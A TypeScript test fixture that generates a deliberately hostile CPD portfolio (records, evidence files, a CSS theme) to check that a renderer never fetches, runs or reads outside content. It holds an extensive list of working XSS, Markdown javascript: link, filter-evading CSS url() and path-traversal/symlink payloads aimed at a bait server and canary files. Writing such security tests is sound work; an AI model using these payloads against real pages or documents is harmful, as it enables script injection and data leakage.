/** A portfolio by somebody who wants a document made of it to fetch, run or read what is none of its business. */

import * as fs from 'node:fs';
import * as path from 'node:path';

/** What a trick reaches for. */
export interface Bait {
  /** A server that shall never hear anything, `http://…`. */
  server: string;
  /** A folder outside the portfolio, whose files say CANARY. */
  outside: string;
}

export const CANARY = 'CANARY-7Q';
/** Stands in the text of a page in which a script has run. */
export const RAN = 'SCRIPT-HAS-RUN';

/** JavaScript that tells of itself in every way. */
const script = ({ server }: Bait) =>
  `document.title='${RAN}';document.documentElement.append('${RAN}');fetch('${server}/fetch');new Image().src='${server}/js';new WebSocket('${server.replace('http', 'ws')}/ws');navigator.sendBeacon('${server}/beacon');`;

export function markupTricks(bait: Bait): string[] {
  const { server, outside } = bait;
  const file = `file://${outside}`;
  const js = script(bait);
  return [
    `<script>${js}</script>`,
    `<SCRIPT/x src="${server}/script.js"></SCRIPT>`,
    `<script type=module>import '${server}/module.js'</script>`,
    `<img src="${server}/img">`,
    `<img src=x onerror="${js}">`,
    `<img srcset="${server}/srcset 1x">`,
    `<img src="${file}/secret.png"><img src="${file}/secret.svg">`,
    `<picture><source srcset="${server}/source"><img></picture>`,
    `<iframe src="${server}/iframe"></iframe><iframe src="${file}/secret.txt"></iframe>`,
    `<iframe srcdoc="<img src='${server}/srcdoc'><script>${js.replaceAll('"', '')}</script>"></iframe>`,
    `<iframe src="data:text/html,<script>fetch('${server}/data')</script>"></iframe>`,
    `<object data="${server}/object"></object><object data="${file}/secret.txt"></object>`,
    `<embed src="${server}/embed"><embed src="${file}/secret.svg">`,
    `<link rel=stylesheet href="${server}/css"><link rel=stylesheet href="${file}/secret.css">`,
    `<link rel=prefetch href="${server}/prefetch"><link rel=preload as=image href="${server}/preload">`,
    `<link rel=preconnect href="${server}"><link rel=dns-prefetch href="${server}"><link rel=icon href="${server}/icon">`,
    `<link rel=modulepreload href="${server}/modpre"><link rel=manifest href="${server}/manifest">`,
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${server}/speculation"]}]}</script>`,
    `<style>@import "${server}/import"; body{background:url(${server}/bg)} @font-face{font-family:x;src:url(${server}/font)} *{font-family:x}</style>`,
    `</style><style>@import url(${file}/secret.css)</style>`,
    `<p style="background:url(${server}/inline);-webkit-mask:url(${server}/mask)">styled</p>`,
    `<video src="${server}/video" poster="${server}/poster" autoplay></video><audio src="${server}/audio" autoplay></audio>`,
    `<svg onload="${js}"><image href="${server}/svgimage" width="9" height="9"/><use href="${server}/use#a"/></svg>`,
    `<svg><script>${js}</script><foreignObject><iframe src="${server}/foreign"></iframe></foreignObject></svg>`,
    `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg><svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
    `<math><mtext><img src="${server}/math"></mtext></math><math href="javascript:${js}">x</math>`,
    `<meta http-equiv="refresh" content="0;url=${server}/refresh">`,
    `<meta http-equiv="refresh" content="0;url=data:text/html,${RAN}">`,
    `<base href="${server}/base/"><img src="after-base.png">`,
    `<form action="${server}/form"><button autofocus>x</button><input autofocus onfocus="${js}"></form>`,
    `<details open ontoggle="${js}">x</details><marquee onstart="${js}">x</marquee>`,
    `<body onload="${js}" background="${server}/body">`,
    `<a href="javascript:${js}" ping="${server}/ping">x</a><a href="${file}/secret.txt">y</a>`,
    `<table background="${server}/table"><tr><td>x</table>`,
    `<noscript><img src="${server}/noscript"></noscript><template><img src="${server}/template"></template>`,
    `<!--><img src="${server}/comment"><!-- --!><img src="${server}/comment2">-->`,
    `<![CDATA[<img src="${server}/cdata">]]><?xml-stylesheet href="${server}/pi"?>`,
    `<title></title><img src="${server}/title"></textarea></xmp></plaintext><img src=${server}/unquoted`,
    `"><img src="${server}/dq"> '><img src='${server}/sq'> \`><img src=\`${server}/bt\`>`,
    `--></style></script></title><img src=${server}/ends onerror=${RAN}>`,
    `<img\u0000 src="${server}/nul"><im\u0000g src="${server}/nul2"><\u0000script>${js}</script>`,
    `<img/src="${server}/slash"/onerror="${js}">`,
    `<frameset><frame src="${server}/frame"></frameset><applet code="${server}/applet"></applet>`,
    `<input type=image src="${server}/input"><isindex action="${server}/isindex"><bgsound src="${server}/bgsound">`,
    `&lt;script&gt;${js}&lt;/script&gt; &#60;img src=${server}/entity&#62;`,
  ];
}

function markdownTricks(bait: Bait): string[] {
  const { server, outside } = bait;
  const js = script(bait).replaceAll(/[()]/g, '');
  return [
    `![x](${server}/md)`,
    `![x][ref]\n\n[ref]: ${server}/ref "t"`,
    `![x](file://${outside}/secret.png)`,
    `![x](${outside}/secret.png) ![x](//${outside}/secret.png)`,
    '![x](../../outside/secret.png) ![x](../../../outside/secret.png)',
    '![x](..\\..\\outside\\secret.png) ![x](%2e%2e/%2e%2e/outside/secret.png) ![x](..%2f..%2foutside%2fsecret.png)',
    '![x](../../evidence/link.png) ![x](../../evidence/evil.svg) ![x](evidence/linked/secret.png)',
    '![x](evidence/evil.png) ![x](/evidence/evil.png) ![x](../../evidence/page.png)',
    `![x](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><image href="${server}/datasvg"/></svg>`).toString('base64')})`,
    `![" onerror="${js}" x="](x) ![x](x "' onerror='${js}")`,
    `[x](javascript:${js}) [x](JaVaScRiPt:${js}) [x](java&#10;script:${js}) [x](&#106;avascript:${js}) [x](java&Tab;script:${js})`,
    `[x]( javascript:${js}) [x](\u0001javascript:${js}) <javascript:${js}> [x](vbscript:${js}) [x](data:text/html,${RAN})`,
    `[x][bad]\n\n[bad]: javascript:${js}`,
    `[x](file://${outside}/secret.txt) <file://${outside}/secret.txt> [x](\\\\\\\\host\\\\share) [x](smb://host/x)`,
    `[![x](${server}/nested)](javascript:${js}) <${server}/autolink> ${server}/bare`,
    `[x](${server}/"onmouseover="${js}) [x](<${server}/ onclick=${js}>)`,
    `\`\`\`"><img src=${server}/info>\n</code><img src=${server}/code>\n\`\`\``,
    `| <img src=${server}/th> | b |\n|---|---|\n| <script>${js}</script> | ![x](${server}/td) |`,
    `# <img src=${server}/h1> \`<img src=${server}/tick>\`\n\n> <iframe src=${server}/quote>\n\n- [ ] <img src=${server}/task>`,
    `<a href="x"\n\n![x](${server}/cut)\n\n>`,
    `${'> '.repeat(40)}<img src=${server}/deep>`,
  ];
}

/** Rules that slip by whoever looks for \`url(\` and \`@import\` as they are mostly written. */
function hostileStyles({ server, outside }: Bait): string {
  return [
    `@\\69mport "${server}/theme-import";`,
    `body { background: u\\72l(${server}/theme-url); }`,
    `h1 { list-style: u\\72l("${server}/theme-list"); cursor: u\\72l(${server}/theme-cursor), auto; }`,
    `@font-face { font-family: thief; src: u\\72l(${server}/theme-font); }`,
    `@font-face { font-family: local; src: local("${outside}/secret.ttf"), u\\72l(file://${outside}/secret.ttf); }`,
    'body, td { font-family: thief, local, serif; }',
    `p::before { content: u\\72l(${server}/theme-content); } p { -webkit-mask: u\\72l(${server}/theme-mask); filter: u\\72l(${server}/theme-filter#f); }`,
    `td { border-image: image-\\73 et("${server}/theme-set" 1x); }`,
    `</style><img src="${server}/theme-out"><script>document.title='${RAN}'</script><style>`,
    `@media print { @page { background: u\\72l(${server}/theme-page); @top-left { content: u\\72l(${server}/theme-margin); } } }`,
  ].join('\n');
}

const LETTERS = '0123456789abcdefghjkmnpqrstvwxyz';
const idOf = (number: number) =>
  [5, 4, 3, 2, 1, 0].map((place) => LETTERS[Math.floor(number / 32 ** place) % 32]).join('');

/** Writes the portfolio into \`root\`, with as many records as are asked for, but every trick at least once. */
export function writeHostilePortfolio(root: string, bait: Bait, records: number): void {
  const write = (name: string, content: string | Uint8Array) => {
    fs.mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
    fs.writeFileSync(path.join(root, name), content);
  };
  const markup = markupTricks(bait);
  const markdown = markdownTricks(bait);
  const tricks = [...markup, ...markdown];
  const quoted = (number: number, most = 190) =>
    JSON.stringify((markup[number % markup.length] ?? '').replaceAll('\u0000', '').slice(0, most));
  write(
    'cpd.yaml',
    `schema: 1\nname: ${JSON.stringify(`Sam </style><img src=${bait.server}/name>"};body{background:url(${bait.server}/name2)}`)}\nrole: ${quoted(0)}\nregistrations: [{ category: CEng, body: ${quoted(3)} }]\ntypes: [{ id: own, title: ${quoted(4, 90)} }]\n`,
  );
  for (let number = 0; number < Math.max(records, tricks.length); number += 1) {
    const all = `${tricks[number % tricks.length]}\n\n${markdown[number % markdown.length]}\n`;
    const facts = [
      'schema: 1',
      `title: ${quoted(number)}`,
      `date: 2026-${String((number % 12) + 1).padStart(2, '0')}-01`,
    ];
    const field = (name: string, shift: number) => `${name}: ${quoted(number + shift, 2000)}`;
    const record =
      number % 5 === 4
        ? {
            name: `goals/${number}.md`,
            more: [
              `id: goal-${idOf(number)}`,
              'status: open',
              field('why', 1),
              field('measure', 2),
              field('support', 3),
            ],
          }
        : {
            name: `activities/2026/${number}.md`,
            more: [
              `id: act-${idOf(number)}`,
              'type: own',
              'status: done',
              field('provider', 1),
              field('location', 2),
              field('learned', 3),
              field('relevance', 4),
              `url: ${JSON.stringify(`${bait.server}/"><script>${RAN}</script>`.replaceAll(' ', ''))}`,
            ],
          };
    write(record.name, `---\n${[...facts, ...record.more].join('\n')}\n---\n\n${all}`);
  }
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>${script(bait)}</script><image href="${bait.server}/evidence"/><text>EVIL</text></svg>`;
  write('evidence/evil.svg', svg);
  write('evidence/evil.png', svg);
  write('evidence/page.png', `<script>${script(bait)}</script>`);
  fs.symlinkSync(path.join(bait.outside, 'secret.png'), path.join(root, 'evidence/link.png'));
  fs.symlinkSync(bait.outside, path.join(root, 'evidence/linked'));
  for (const [number, [file, media]] of [
    ['evidence/evil.svg', 'image/svg+xml'],
    ['evidence/evil.png', 'image/png'],
    ['evidence/page.png', 'text/html'],
    ['evidence/link.png', 'image/png'],
    ['evidence/linked/secret.png', 'image/png'],
    ['evidence/../../outside/secret.png', 'image/png'],
    [`evidence/%2e%2e/"><img src=${bait.server}/file>.png`, 'image/png'],
  ].entries())
    write(
      `documents/${number}.md`,
      `---\nschema: 1\nid: doc-${idOf(number)}\ntitle: ${quoted(number)}\ndate: 2026-01-01\nfile: ${JSON.stringify(file)}\noriginal: ${quoted(number + 5)}\nsize: 1\nmedia: ${media}\nsha256: ${'0'.repeat(64)}\n---\n`,
    );
  write('templates/themes/hostile.css', hostileStyles(bait));
}

/** The files that nothing may read. */
export function writeSecrets(outside: string): void {
  fs.mkdirSync(outside, { recursive: true });
  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from(CANARY)]);
  for (const [name, content] of Object.entries({
    'secret.txt': CANARY,
    'secret.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text y="20">${CANARY}</text></svg>`,
    'secret.css': `body::before { content: "${CANARY}" }`,
    'secret.html': `<p>${CANARY}</p>`,
    'secret.md': `---\nschema: 1\nid: act-zzzzzz\ntitle: ${CANARY}\ndate: 2026-01-01\ntype: course\nstatus: done\nlearned: ${CANARY}\n---\n`,
    'secret.png': png,
    'secret.ttf': CANARY,
  }))
    fs.writeFileSync(path.join(outside, name), content);
}
